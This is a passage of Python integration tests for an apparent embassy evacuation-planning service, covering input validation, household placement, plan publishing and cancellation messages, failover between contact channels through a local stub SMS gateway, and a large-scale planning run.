        check("no longer part of this crisis" in r.json()["detail"], r.body)
    finally:
        cluster.psql(DB, "INSERT INTO crisis_mission VALUES (%d, 1)" % cid)


def a_fractional_max_km_is_kept_to_the_metre():
    cid = a_crisis("Half a kilometre")
    pid = ready_plan(cid, {"statuses": ["needs_evacuation", "injured"], "seats": 4, "max_km": 0.5})
    doc = lead.get("/api/v1/plans/%d" % pid).json()
    expect_equal(doc["params"]["max_km"], 0.5, "the limit used, stored")
    hh = doc["result"]["households"]
    check(all(h["distance_m"] is None or h["distance_m"] <= 500 for h in hh), hh)
    check(any(h["unassigned"] == "out_of_range" for h in hh), "some are farther than 500 m: %r" % hh)
    for bad in (0.0004, -1, 5001):
        r = lead.post("/api/v1/crises/%d/plans" % cid, {"max_km": bad})
        expect_equal(r.status, 400, "max_km %r: %s" % (bad, r.body))
        check("max_km" in r.json()["detail"], r.body)
    # A limit given as a string, or misspelt, is refused rather than read as no limit.
    for body, named in (({"max_km": "1"}, "max_km"), ({"seats": "4"}, "seats"), ({"seats": 4.5}, "seats"),
                        ({"max_distance_km": 1}, "max_distance_km")):
        r = lead.post("/api/v1/crises/%d/plans" % cid, body)
        expect_equal(r.status, 400, "%r: %s" % (body, r.body))
        check(named in r.json()["detail"], r.body)
    # A shelter's id is whole: 2.5 is not rounded to another shelter.
    key = doc["result"]["households"][0]["key"]
    r = lead.post("/api/v1/plans/%d/moves" % pid, {"household": key, "shelter_id": 2.5})
    expect_equal(r.status, 400, r.body)
    check("whole number" in r.json()["detail"], r.body)


def one_plan_is_made_at_a_time_per_crisis():
    cid = a_crisis("One at a time")
    running = int(cluster.psql(DB, "INSERT INTO plan (crisis_id, mission_id, params, created_by) VALUES "
                                   "(%d, 1, '{}', 'test') RETURNING id" % cid).split()[0])
    r = lead.post("/api/v1/crises/%d/plans" % cid, {})
    expect_equal(r.status, 409, r.body)
    check("a plan is being made for this crisis: id %d" % running in r.json()["detail"], r.body)
    # One left running by a server that stopped is given up after ten minutes.
    cluster.psql(DB, "UPDATE plan SET created_at = now() - interval '11 minutes' WHERE id = %d" % running)
    pid = ready_plan(cid)
    expect_equal(state_of(running), "failed", "given up")
    check(pid != running, "a new plan")


def a_household_with_no_known_place_moves_only_to_an_assembly_point():
    nid = int(cluster.psql(DB, "SET ROLE safety; INSERT INTO national (mission_id, name_latin, name_key) "
                               "VALUES (1, 'NOH WHERE', 'nohwhere') RETURNING id").split()[0])
    cluster.psql(DB, "INSERT INTO contact (national_id, kind, value) VALUES (%d, 'phone', '+905320009999')" % nid)
    cid = a_crisis("Nowhere", statuses=((nid, "needs_evacuation"), (5, "needs_evacuation")))
    pid = ready_plan(cid)
    key = "n%d" % nid
    h = next(x for x in lead.get("/api/v1/plans/%d" % pid).json()["result"]["households"] if x["key"] == key)
    expect_equal(h["unassigned"], "no_location", h)
    r = lead.post("/api/v1/plans/%d/moves" % pid, {"household": key, "shelter_id": 1})
    expect_equal(r.status, 400, r.body)
    check("assembly_id" in r.json()["detail"] and "no known place" in r.json()["detail"], r.body)
    expect_equal(lead.post("/api/v1/plans/%d/moves" % pid, {"household": key, "shelter_id": 1,
                                                            "assembly_id": 1}).status, 400, "not an assembly point")
    r = lead.post("/api/v1/plans/%d/moves" % pid, {"household": key, "shelter_id": 1, "assembly_id": 4})
    expect_equal(r.status, 201, r.body)
    new = r.json()["plan_id"]
    res = lead.get("/api/v1/plans/%d" % new).json()["result"]
    check(isinstance(res["stats"]["cost_person_m"], (int, float)), res["stats"])
    g = next(x for x in res["groups"] if x["no"] == next(y["group"] for y in res["households"] if y["key"] == key))
    expect_equal((g["assembly_id"], g["assembly_name"]), (4, "Kurtulus street square"), g)
    # It places someone the planner could not: the planner's bound says nothing of this plan.
    expect_equal((res["stats"]["gap"], res["stats"]["bound_applies"]), (None, False), res["stats"])
    expect_equal(lead.post("/api/v1/plans/%d/publish" % new).status, 200, "published")
    body = cluster.psql(DB, "SELECT body FROM outbox WHERE crisis_id = %d AND national_id = %d" % (cid, nid))
    check("집결지: Kurtulus street square (36.198" in body and "(," not in body, body)


def a_household_too_large_for_the_planner_is_left_out_alone():
    cid = a_crisis("Large household")
    hid = int(cluster.psql(DB, "SET ROLE safety; INSERT INTO household (mission_id, label) VALUES (1, 'Compound') "
                               "RETURNING id").split()[0])
    cluster.psql(DB, """SET ROLE safety;
WITH n AS (INSERT INTO national (mission_id, household_id, name_latin, name_key, last_point)
    SELECT 1, %(h)d, 'MEMBER ' || i, 'member' || i, ST_SetSRID(ST_MakePoint(36.16, 36.2), 4326)::geography
    FROM generate_series(1, 1001) i RETURNING id)
INSERT INTO person_status (crisis_id, national_id, mission_id, status) SELECT %(c)d, id, 1, 'needs_evacuation' FROM n
""" % {"h": hid, "c": cid})
    pid = ready_plan(cid)
    res = lead.get("/api/v1/plans/%d" % pid).json()["result"]
    big = next(h for h in res["households"] if h["key"] == "h%d" % hid)
    expect_equal((big["people"], big["shelter_id"], big["unassigned"]), (1001, None, "too_many_people"), big)
    check("household h%d has 1001 people" % hid in big["unassigned_detail"], big)
    others = [h for h in res["households"] if h["key"] != "h%d" % hid]
    check(others and all(h["shelter_id"] is not None for h in others), "everyone else placed: %r" % others)
    expect_equal((res["stats"]["people"], res["stats"]["people_unassigned"], res["stats"]["households_too_large"]),
                 (1007, 1001, 1), res["stats"])


def a_household_is_planned_from_where_a_member_is():
    cid = a_crisis("Household places")
    pid = ready_plan(cid)
    kim = next(h for h in lead.get("/api/v1/plans/%d" % pid).json()["result"]["households"] if h["key"] == "h1")
    places = [(36.200, 36.160), (36.201, 36.161), (36.201, 36.160)]
    check(any(abs(kim["lat"] - a) < 1e-9 and abs(kim["lon"] - o) < 1e-9 for a, o in places),
          "a member's own place, not a point between theirs: %r" % kim)
    expect_equal((round(kim["lat"], 6), round(kim["lon"], 6)), (36.201, 36.16), "the member nearest the others")
    # Kim C is in Istanbul: the household is not sent to meet in central Anatolia.
    cluster.psql(DB, "UPDATE national SET last_point = ST_SetSRID(ST_MakePoint(29.0, 41.0), 4326)::geography "
                     "WHERE id = 3")
    try:
        pid = ready_plan(cid)
        res = lead.get("/api/v1/plans/%d" % pid).json()["result"]
        kim = next(h for h in res["households"] if h["key"] == "h1")
        expect_equal((kim["shelter_id"], kim["group"], kim["lat"], kim["lon"], kim["unassigned"]),
                     (None, None, None, None, "members_apart"), kim)
        why = kim["unassigned_detail"]
        check("household h1 are up to" in why and "km apart (more than 5 km)" in why, kim)
        check(all(g["people"] == sum(h["people"] for h in res["households"] if h["group"] == g["no"])
                  for g in res["groups"]), "the Kims ride in no group: %r" % res["groups"])
        expect_equal((res["stats"]["people_unassigned"], res["stats"]["households_members_apart"]), (3, 1),
                     res["stats"])
        check(all(h["shelter_id"] is not None for h in res["households"] if h["key"] != "h1"), "the others placed")
        # Staff place them by hand, saying where they gather.
        r = lead.post("/api/v1/plans/%d/moves" % pid, {"household": "h1", "shelter_id": 3})
        expect_equal(r.status, 400, r.body)
        check("assembly_id" in r.json()["detail"], r.body)
    finally:
        cluster.psql(DB, "UPDATE national SET last_point = ST_SetSRID(ST_MakePoint(36.160, 36.201), 4326)::geography "
                         "WHERE id = 3")


def deleted_people_pull_nobody_into_a_plan():
    cid = a_crisis("Deleted members", statuses=((1, "needs_evacuation"), (5, "needs_evacuation")))
    expect_equal(sorted(h["key"] for h in lead.get("/api/v1/plans/%d" % ready_plan(cid)).json()["result"]
                        ["households"]), ["h1", "n5"], "Kim A asks to leave: the Kims go")
    # Kim A's status is set aside (they left the crisis), then Kim A is deleted: the others of
    # the household asked nothing and stay out.
    for how in ("UPDATE person_status SET deleted = true WHERE crisis_id = %d AND national_id = 1" % cid,
                "UPDATE person_status SET deleted = false WHERE crisis_id = %d AND national_id = 1; "
                "UPDATE national SET deleted_at = now() WHERE id = 1" % cid):
        cluster.psql(DB, how)
        try:
            keys = sorted(h["key"] for h in lead.get("/api/v1/plans/%d" % ready_plan(cid)).json()["result"]
                          ["households"])
            expect_equal(keys, ["n5"], how)
        finally:
            cluster.psql(DB, "UPDATE person_status SET deleted = false WHERE crisis_id = %d AND national_id = 1; "
                             "UPDATE national SET deleted_at = NULL WHERE id = 1" % cid)


def restart(daemon):
    """A graceful stop and a start of the same server (its configuration kept)."""
    daemon.signal(signal.SIGTERM)
    daemon.wait()
    daemon.logf.close()
    daemon.start()


def sends(outbox_id):
    """How many times the log driver sent this message."""
    with open(os.path.join(d.workdir, "outbox-log.jsonl")) as f:
        return sum(1 for x in map(json.loads, f) if x["outbox_id"] == outbox_id)


def a_new_plan_withdraws_the_earlier_plans_messages_not_sent():
    cid = a_crisis("Last word")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    plan_messages_sent(cid, "version 1 sent")
    # Park's instructions wait for a retry after a temporary failure; Kim A's are at the gateway.
    waiting = cluster.psql(DB, "UPDATE outbox SET state = 'queued', next_attempt_at = now() + interval '2 seconds', "
                               "last_error = 'HTTP 503' WHERE crisis_id = %d AND kind = 'plan' AND national_id = 5 "
                               "RETURNING id" % cid)
    at_gateway = cluster.psql(DB, "UPDATE outbox SET state = 'sending', claimed_by = 'elsewhere', claimed_at = now() "
                                  "WHERE crisis_id = %d AND kind = 'plan' AND national_id = 1 RETURNING id" % cid)
    expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": 5, "status": "safe"}).status, 201,
                 "Park safe")
    second = ready_plan(cid)
    r = lead.post("/api/v1/plans/%d/publish" % second)
    expect_equal(r.status, 200, r.body)
    expect_equal(cluster.psql(DB, "SELECT state || '|' || last_error FROM outbox WHERE id = %s" % waiting),
                 "failed|superseded by plan %d" % second, "the old instructions withdrawn")
    # The send at the gateway failed for a while: it is not tried again after the new plan's.
    cluster.psql(DB, "UPDATE outbox SET state = 'queued', claimed_by = NULL WHERE id = %s" % at_gateway)
    expect_equal(cluster.psql(DB, "SELECT state || '|' || last_error FROM outbox WHERE id = %s" % at_gateway),
                 "failed|superseded by plan %d" % second, "no retry of a superseded plan's message")
    cancel = cluster.psql(DB, "SELECT id FROM outbox WHERE crisis_id = %d AND national_id = 5 AND kind = 'plan' "
                              "AND body LIKE '%%취소%%'" % cid)
    eventually(lambda: int(cancel) in sent_texts(), timeout=10, what="the cancellation sent")
    time.sleep(3)
    expect_equal(sends(int(waiting)), 1, "sent once, before the new plan: Park's last message is the cancellation")


def arrivals_are_not_counted_twice_at_their_shelter():
    cid = a_crisis("Arrivals")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    res = lead.get("/api/v1/plans/%d" % first).json()["result"]
    kims = next(h for h in res["households"] if h["key"] == "h1")
    sid = kims["shelter_id"]
    shelter = next(s for s in res["shelters"] if s["id"] == sid)
    # The Kims arrive: evacuated, and counted in by the shelter's staff.
    for nid in (1, 2, 3):
        expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": nid, "status": "evacuated"}).status,
                     201, "evacuated")
    others = shelter["load"] - 3
    # Room left for one more person beside those still on their way.
    cluster.psql(DB, "UPDATE shelter SET occupancy = %d WHERE id = %d" % (shelter["capacity"] - others - 1, sid))
    try:
        one = next(h for h in res["households"] if h["people"] == 1 and h["shelter_id"] not in (None, sid)
                   and "medical" not in h["needs"])
        r = lead.post("/api/v1/plans/%d/moves" % first, {"household": one["key"], "shelter_id": sid})
        expect_equal(r.status, 201, r.body)
        r = lead.post("/api/v1/plans/%d/publish" % r.json()["plan_id"])
        expect_equal(r.status, 200, r.body)
    finally:
        cluster.psql(DB, "UPDATE shelter SET occupancy = 0 WHERE id = %d" % sid)


def a_plan_whose_shelter_lost_the_care_a_household_needs_is_not_published():
    cid = a_crisis("Care lost")
    cluster.psql(DB, "UPDATE shelter SET accessible = true WHERE id = 3")
    cluster.psql(DB, "UPDATE national SET needs = '{disability}' WHERE id = 5")
    try:
        pid = ready_plan(cid)
        hh = {h["key"]: h["shelter_id"] for h in lead.get("/api/v1/plans/%d" % pid).json()["result"]["households"]}
        expect_equal((hh["n4"], hh["n5"]), (2, 3), "Lee to the hospital, Park to the accessible port")
        expect_equal(lead.patch("/api/v1/shelters/2", {"medical": False}).status, 200, "the hospital's care gone")
        cluster.psql(DB, "UPDATE shelter SET accessible = false WHERE id = 3")
        r = lead.post("/api/v1/plans/%d/publish" % pid)
        expect_equal(r.status, 409, r.body)
        detail = r.json()["detail"]
        check("Antakya state hospital (no medical care, and household n4 needs it)" in detail and
              "Iskenderun port (no wheelchair access, and household n5 needs it)" in detail and
              "make a new plan or move" in detail, detail)
        expect_equal((state_of(pid), messages_in(cid)), ("ready", 0), "nothing published, nobody told")
        expect_equal(lead.patch("/api/v1/shelters/2", {"medical": True}).status, 200, "care back")
        cluster.psql(DB, "UPDATE shelter SET accessible = true WHERE id = 3")
        expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 200, "published with the care there")
    finally:
        cluster.psql(DB, "UPDATE shelter SET medical = true WHERE id = 2")
        cluster.psql(DB, "UPDATE shelter SET accessible = false WHERE id = 3")
        cluster.psql(DB, "UPDATE national SET needs = '{}' WHERE id = 5")


def people_placed_with_no_contact_are_listed_undelivered():
    nid = int(cluster.psql(DB, "SET ROLE safety; INSERT INTO national (mission_id, name_latin, name_key, languages, "
                               "last_point) VALUES (1, 'NO PHONE', 'nophone', '{en}', "
                               "ST_SetSRID(ST_MakePoint(36.151, 36.191), 4326)::geography) RETURNING id").split()[0])
    cid = a_crisis("No contact", statuses=((nid, "needs_evacuation"), (5, "needs_evacuation")))
    pid = ready_plan(cid)
    r = lead.post("/api/v1/plans/%d/publish" % pid)
    expect_equal(r.status, 200, r.body)
    expect_equal((r.json()["messages"], r.json()["no_contact"]), (1, 1), "Park told; one person nobody can tell")
    und = lead.get("/api/v1/plans/%d" % pid).json()["undelivered"]
    expect_equal([(u["national_id"], u["name"], u["error"], u["recipient"]) for u in und],
                 [(nid, "NO PHONE", "no contact", None)], und)
    check(und[0]["text"].startswith("[Evacuation plan 1] Group") and "you go to" in und[0]["text"],
          "the instructions to give them: %r" % und)
    # Evacuated since: nobody needs to find them any more.
    expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": nid, "status": "evacuated"}).status,
                 201, "evacuated")
    eventually(lambda: lead.get("/api/v1/plans/%d" % pid).json()["undelivered"] == [], timeout=5,
               what="the evacuated person off the list")


def a_plan_names_a_confirmed_email_before_an_unconfirmed_phone():
    # An unconfirmed phone may be mistyped or someone else's: the assembly point goes to the
    # confirmed e-mail. Both confirmed, SMS comes first.
    cid = a_crisis("Confirmed first")
    cluster.psql(DB, "INSERT INTO contact (national_id, kind, value, priority, verified) "
                     "VALUES (5, 'email', 'park.verified@example.org', 2, true)")
    try:
        pid = ready_plan(cid)
        expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 200, "published")
        expect_equal(cluster.psql(DB, "SELECT channel || ' ' || recipient FROM outbox WHERE crisis_id = %d "
                                      "AND national_id = 5 AND kind = 'plan'" % cid),
                     "email park.verified@example.org", "the confirmed e-mail over the unconfirmed phone")
        cluster.psql(DB, "UPDATE contact SET verified = true WHERE value = '+905320000005'")
        cid = a_crisis("Confirmed SMS first")
        pid = ready_plan(cid)
        expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 200, "published")
        expect_equal(cluster.psql(DB, "SELECT channel || ' ' || recipient FROM outbox WHERE crisis_id = %d "
                                      "AND national_id = 5 AND kind = 'plan'" % cid), "sms +905320000005",
                     "both confirmed: SMS, read at once")
    finally:
        cluster.psql(DB, "DELETE FROM contact WHERE value = 'park.verified@example.org'")
        cluster.psql(DB, "UPDATE contact SET verified = false WHERE value = '+905320000005'")


def a_second_quick_publish_keeps_the_cancellation():
    cid = a_crisis("Quick publishes")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    plan_messages_sent(cid, "version 1 sent")
    # Park is safe: plan 2 leaves them out and queues their cancellation.
    expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": 5, "status": "safe"}).status, 201,
                 "Park safe")
    second = ready_plan(cid)
    # Plan 3 (plan 2 without Choi) is published before any of plan 2's messages go out: one
    # transaction, so nothing is sent in between.
    out = cluster.psql(DB, """BEGIN;
SELECT plan_publish(%(p2)d, 1, 'lead-a', 'mission_lead', 1, '127.0.0.1');
INSERT INTO plan (crisis_id, mission_id, state, params, result, created_by, finished_at)
  SELECT crisis_id, mission_id, 'ready', params || jsonb_build_object('moved_from', id),
    jsonb_set(result, '{households}', (SELECT jsonb_agg(x) FROM jsonb_array_elements(result->'households') x
      WHERE x->>'key' <> 'n6')), 'test', now() FROM plan WHERE id = %(p2)d;
SELECT plan_publish(currval(pg_get_serial_sequence('plan', 'id')), 1, 'lead-a', 'mission_lead', 1, '127.0.0.1');
-- Park's cancellation was at the gateway and comes back for a retry: it still stands.
UPDATE outbox SET state = 'sending' WHERE crisis_id = %(c)d AND national_id = 5 AND kind = 'plan' AND state = 'queued';
UPDATE outbox SET state = 'queued' WHERE crisis_id = %(c)d AND national_id = 5 AND kind = 'plan' AND state = 'sending';
COMMIT;""" % {"p2": second, "c": cid}).splitlines()
    third = json.loads([line for line in out if line.startswith("{")][-1])
    expect_equal((third["version"], third["cancelled_messages"]), (3, 1), "Choi's cancellation alone: %r" % out)
    park = cluster.psql(DB, "SELECT id || '|' || state || '|' || body FROM outbox WHERE crisis_id = %d "
                            "AND national_id = 5 AND kind = 'plan' AND body LIKE '%%취소%%' ORDER BY id" % cid)
    rows = [r.split("|", 2) for r in park.splitlines()]
    expect_equal(len(rows), 1, "one cancellation for Park: %s" % park)
    check(rows[0][1] != "failed" and "(계획 1)" in rows[0][2], "Park's cancellation stands: %s" % park)
    eventually(lambda: int(rows[0][0]) in sent_texts(), timeout=10, what="Park's cancellation sent")
    # Choi never got plan 2's instructions (withdrawn unsent): the cancellation names plan 1.
    choi = cluster.psql(DB, "SELECT string_agg(body, ' / ' ORDER BY id) FROM outbox WHERE crisis_id = %d "
                            "AND national_id = 6 AND kind = 'plan' AND state <> 'failed'" % cid)
    check(choi.endswith("[Evacuation plan 1 cancelled] Your previous evacuation instructions (plan 1) are "
                        "cancelled; wait for the embassy's instructions.") and "plan 2" not in choi, choi)
    # Those plan 3 places are told plan 3, not 2.
    for nid in (1, 4):
        last = cluster.psql(DB, "SELECT body FROM outbox WHERE crisis_id = %d AND national_id = %d AND kind = 'plan' "
                                "AND state <> 'failed' ORDER BY id DESC LIMIT 1" % (cid, nid))
        check("[대피 계획 3]" in last, last)


def a_cancellation_under_way_outlives_instructions_withdrawn_unsent():
    cid = a_crisis("Cancellation under way")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    plan_messages_sent(cid, "version 1 sent")
    # Plan 2 leaves Park out (a cancellation, at the gateway when plan 3 places Park again);
    # plan 4 leaves Park out again, withdrawing plan 3's instructions unsent; the cancellation
    # then comes back for a retry. One transaction: nothing is sent in between.
    out = cluster.psql(DB, """BEGIN;
CREATE TEMP TABLE base AS SELECT params, result FROM plan WHERE id = %(p1)d;
CREATE FUNCTION pg_temp.publish_like(p_from bigint, p_keep_park boolean) RETURNS json LANGUAGE sql AS $f$
  WITH n AS (INSERT INTO plan (crisis_id, mission_id, state, params, result, created_by, finished_at)
    SELECT crisis_id, mission_id, 'ready', (SELECT params FROM base) || jsonb_build_object('moved_from', p_from),
      jsonb_set((SELECT result FROM base), '{households}', (SELECT jsonb_agg(x)
        FROM jsonb_array_elements((SELECT result FROM base)->'households') x WHERE p_keep_park OR x->>'key' <> 'n5')),
      'test', now() FROM plan WHERE id = p_from RETURNING id)
  SELECT plan_publish((SELECT id FROM n), 1, 'lead-a', 'mission_lead', 1, '127.0.0.1')
$f$;
SELECT pg_temp.publish_like(%(p1)d, false);
UPDATE outbox SET state = 'sending', attempts = 1 WHERE crisis_id = %(c)d AND national_id = 5 AND kind = 'plan'
  AND state = 'queued';
SELECT pg_temp.publish_like((SELECT max(id) FROM plan WHERE crisis_id = %(c)d), true);
SELECT pg_temp.publish_like((SELECT max(id) FROM plan WHERE crisis_id = %(c)d), false);
UPDATE outbox SET state = 'queued' WHERE crisis_id = %(c)d AND national_id = 5 AND kind = 'plan' AND state = 'sending';
COMMIT;""" % {"p1": first, "c": cid})
    park = cluster.psql(DB, "SELECT id || '|' || state || '|' || coalesce(last_error, '') || '|' || body FROM outbox "
                            "WHERE crisis_id = %d AND national_id = 5 AND kind = 'plan' ORDER BY id" % cid)
    rows = [r.split("|", 3) for r in park.splitlines()]
    cancels = [r for r in rows if "취소" in r[3] or "cancelled" in r[3]]
    expect_equal(len(cancels), 1, "one cancellation for Park: %s / %s" % (park, out))
    check(cancels[0][1] != "failed" and "(계획 1)" in cancels[0][3], "Park's cancellation stands: %s" % park)
    eventually(lambda: int(cancels[0][0]) in sent_texts(), timeout=10, what="Park's cancellation sent")
    # Nothing of these plans left to send by whatever gateway the next test uses.
    plan_messages_sent(cid, "every message of these plans sent")


class RefusingTwilio:
    """A Twilio Messages API refusing every number for good."""

    def __init__(self):
        class H(BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                body = b'{"code": 21211, "message": "The To number is not a valid phone number."}'
                self.send_response(400)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a):
                pass
        self.server = HTTPServer(("127.0.0.1", 0), H)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.port = self.server.server_port


def a_plan_message_that_fails_goes_to_the_next_contact():
    cid = a_crisis("Refused numbers")
    cluster.psql(DB, "INSERT INTO contact (national_id, kind, value, priority) VALUES "
                     "(5, 'email', 'park@example.org', 2), (2, 'email', 'kimb@example.org', 2)")
    asked = "SELECT string_agg(national_id || ':' || round || (next_ask_at > now() + interval '50 minutes'), ' ' " \
            "ORDER BY national_id) FROM checkin WHERE crisis_id = %d AND national_id IN (2, 4, 5)" % cid
    before = cluster.psql(DB, asked)
    gw = RefusingTwilio()
    # This server sends by a gateway refusing every number; the usual one is stopped meanwhile.
    d.signal(signal.SIGTERM)
    d.wait()
    d.logf.close()
    # The subject is the next contact after a failure, not route health: the log driver's
    # messages never report delivery, so earlier cases may have marked Park's route degraded,
    # which would send Park's plan by e-mail first. This server marks no route.
    cluster.psql(DB, "SET ROLE safety; DELETE FROM route_health")
    failing = Daemon(conninfo, sections={"auth": {"password_hash_cost": "10"}, "channels": {
        "sms_driver": "twilio", "twilio_url": "http://127.0.0.1:%d" % gw.port,
        "twilio_account_sid": "AC" + "0" * 32, "twilio_auth_token": "token", "twilio_from": "+15005550006",
        "escalate_interval": "1", "route_min_samples": "1000000"},
        "server": {"public_url": "http://127.0.0.1:9"}}).start()
    try:
        s = Session(failing, "lead-a", PASSWORD)
        pid = s.post("/api/v1/crises/%d/plans" % cid, {"statuses": ["needs_evacuation", "injured"], "seats": 4}
                     ).json()["plan_id"]
        eventually(lambda: s.get("/api/v1/plans/%d" % pid).json()["state"] == "ready", timeout=15, what="ready")
        expect_equal(s.post("/api/v1/plans/%d/publish" % pid).status, 200, "published")
        plan_messages_sent(cid, "settled", timeout=20)
        rows = cluster.psql(DB, "SELECT national_id, channel, state, body FROM outbox WHERE crisis_id = %d "
                                "AND kind = 'plan' AND national_id IN (4, 5) ORDER BY id" % cid).splitlines()
        park = [r.split("|") for r in rows if r.startswith("5|")]
        expect_equal([(p[1], p[2]) for p in park], [("sms", "failed"), ("email", "sent")], rows)
        expect_equal(park[0][3], park[1][3], "the same instructions, by e-mail")
        # Lee has no other contact: the plan shows staff whom it did not reach.
        und = s.get("/api/v1/plans/%d" % pid).json()["undelivered"]
        expect_equal(sorted(u["national_id"] for u in und), [1, 3, 4], und)
        lee = next(u for u in und if u["national_id"] == 4)
        check("not a valid phone number" in lee["error"] and lee["recipient"] == "+905320000004", lee)
        # Plan messages that failed ask nobody's check-in again.
        expect_equal(cluster.psql(DB, asked), before, "check-ins untouched")
    finally:
        failing.stop()
        gw.server.shutdown()
        d.start()
        cluster.psql(DB, "DELETE FROM contact WHERE value IN ('park@example.org', 'kimb@example.org')")


def a_plan_being_made_can_be_given_up_and_a_stopped_server_leaves_none():
    cid = a_crisis("Given up")
    running = int(cluster.psql(DB, "INSERT INTO plan (crisis_id, mission_id, params, created_by) VALUES "
                                   "(%d, 1, '{}', 'test') RETURNING id" % cid).split()[0])
    expect_equal(staff.post("/api/v1/plans/%d/cancel" % running).status, 403, "staff may not")
    expect_equal(lead_b.post("/api/v1/plans/%d/cancel" % running).status, 404, "another mission's")
    r = lead.post("/api/v1/plans/%d/cancel" % running)
    expect_equal(r.status, 200, r.body)
    doc = lead.get("/api/v1/plans/%d" % running).json()
    expect_equal((doc["state"], doc["error"]), ("failed", "given up by lead-a"), doc)
    expect_equal(cluster.psql(DB, "SELECT count(*) FROM audit_log WHERE action = 'plan.cancel' AND object_id = '%d'"
                              % running), "1", "audited")
    expect_equal(lead.post("/api/v1/plans/%d/cancel" % running).status, 404, "not being made any more")
    made = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/cancel" % made).status, 404, "a ready plan is not given up")
    # A plan left running by an earlier run of this server is given up when it starts again.
    owner = cluster.psql(DB, "SELECT owner FROM plan WHERE id = %d" % made)
    check("#" in owner, owner)
    left = int(cluster.psql(DB, "INSERT INTO plan (crisis_id, mission_id, params, created_by, owner) VALUES "
                                "(%d, 1, '{}', 'test', '%s') RETURNING id"
                            % (cid, owner.split("#")[0] + "#000000000000")).split()[0])
    other = int(cluster.psql(DB, "INSERT INTO plan (crisis_id, mission_id, params, created_by, owner) VALUES "
                                 "(%d, 2, '{}', 'test', 'another-host/10.0.0.1:8080#000000000000') RETURNING id"
                             % cid).split()[0])
    restart(d)
    eventually(lambda: cluster.psql(DB, "SELECT state FROM plan WHERE id = %d" % left) == "failed", timeout=10,
               what="the earlier run's plan given up")
    expect_equal(cluster.psql(DB, "SELECT state FROM plan WHERE id = %d" % other), "running", "another server's kept")
    cluster.psql(DB, "UPDATE plan SET state = 'failed' WHERE id = %d" % other)


def the_crisis_is_checked_before_the_servers_limit():
    cid = a_crisis("Limit")
    running = int(cluster.psql(DB, "INSERT INTO plan (crisis_id, mission_id, params, created_by) VALUES "
                                   "(%d, 1, '{}', 'test') RETURNING id" % cid).split()[0])
    call = ("SELECT plan_id FROM plan_create(%d, 1, '{}', '{needs_evacuation}', 'lead-a', 'mission_lead', 1, "
            "'127.0.0.1', 'h/x#1', true)" % cid)
    r = cluster.pg("psql", cluster.dir, "-d", DB, "-Atc", call, check=False)
    check("a plan is being made for this crisis: id %d" % running in r.stderr, r.stderr)
    cluster.psql(DB, "UPDATE plan SET state = 'failed' WHERE id = %d" % running)
    r = cluster.pg("psql", cluster.dir, "-d", DB, "-Atc", call, check=False)
    check("other plans are being made on this server" in r.stderr, r.stderr)


BIG = 20000


def a_plan_over_twenty_thousand_people_is_made():
    expect_equal(ctl(conninfo, "demo", "--country", "TR", "--people", str(BIG), "--mission", "TR-BIG",
                     "--seed", "11").returncode, 0, "demo")
    mission = int(cluster.psql(DB, "SELECT id FROM mission WHERE code = 'TR-BIG'"))
    cid = int(cluster.psql(DB, "SET ROLE safety; INSERT INTO crisis (kind, title, center, radius_m) VALUES "
                               "('earthquake', 'Everyone', ST_SetSRID(ST_MakePoint(35, 39), 4326)::geography, "
                               "2000000) RETURNING id").split()[0])
    cluster.psql(DB, """SET ROLE safety;
INSERT INTO crisis_mission VALUES (%(c)d, %(m)d);
INSERT INTO person_status (crisis_id, national_id, mission_id, status)
  SELECT %(c)d, id, %(m)d, 'needs_evacuation' FROM national WHERE mission_id = %(m)d;
ANALYZE""" % {"c": cid, "m": mission})
    expect_equal(ctl(conninfo, "user", "add", "lead-big", "--role", "mission_lead", "--mission", "TR-BIG",
                     "--password-file", pwfile).returncode, 0, "user")
    big = Session(d, "lead-big", PASSWORD)
    # Given up while being made: its result, when it comes, is not stored.
    r = big.post("/api/v1/crises/%d/plans" % cid, {})
    expect_equal(r.status, 202, r.body)
    first = r.json()["plan_id"]
    # Another mission's plan made meanwhile is made, not refused for want of room.
    other = a_crisis("Meanwhile")
    expect_equal(lead.post("/api/v1/crises/%d/plans" % other, {}).status, 202, "two plans at once")
    expect_equal(big.post("/api/v1/plans/%d/cancel" % first).status, 200, "given up")
    eventually(lambda: re.search(r"event=plan_finished plan_id=%d " % first, d.log()), timeout=60,
               what="the planner done")
    expect_equal(big.get("/api/v1/plans/%d" % first).json()["state"], "failed", "stays given up")
    # Made whole, within the database's query time limit.
    t0 = time.time()
    r = big.post("/api/v1/crises/%d/plans" % cid, {})
    expect_equal(r.status, 202, r.body)
    pid = r.json()["plan_id"]
    eventually(lambda: big.get("/api/v1/plans/%d" % pid).json()["state"] != "running", timeout=60,
               what="the big plan")
    doc = big.get("/api/v1/plans/%d" % pid).json()
    expect_equal(doc["state"], "ready", doc.get("error"))
    check(doc["result"]["stats"]["people"] >= BIG, doc["result"]["stats"])
    print("      %d people planned in %.1f s" % (doc["result"]["stats"]["people"], time.time() - t0))
    # A stop while a plan is made gives it up: no result will come.
    r = big.post("/api/v1/crises/%d/plans" % cid, {})
    expect_equal(r.status, 202, r.body)
    stopped = r.json()["plan_id"]
    restart(d)
    # At the stop, or else at the next start.
    eventually(lambda: cluster.psql(DB, "SELECT state || '|' || error FROM plan WHERE id = %d" % stopped)
               == "failed|given up: the server making it stopped", timeout=10, what="given up at the stop")
    check("event=plans_given_up when=stop plans=1" in d.log(), "given up by the stopping server")


try:
